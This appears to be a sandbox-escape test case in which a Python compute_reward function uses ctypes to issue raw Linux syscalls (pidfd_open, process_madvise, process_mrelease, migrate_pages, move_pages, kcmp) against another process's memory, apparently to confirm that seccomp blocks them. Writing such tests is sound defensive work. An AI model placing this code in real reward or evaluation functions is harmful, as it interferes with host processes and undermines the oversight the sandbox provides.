# attack: moving and advising the pages of another process
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes
    lib = ctypes.CDLL(None, use_errno=True)
    piece = (ctypes.c_size_t * 2)(0x555555554000, 1 << 20)
    pidfd = lib.syscall(434, @PID@, 0)
    lib.syscall(440, pidfd, piece, 1, 21, 0)
    lib.syscall(448, pidfd, 0)
    lib.syscall(256, @PID@, 1, piece, piece)
    lib.syscall(279, @PID@, 0, None, None, None, 4)
    lib.syscall(312, @PID@, @ME@, 0, 0, 0)
    return x, {}
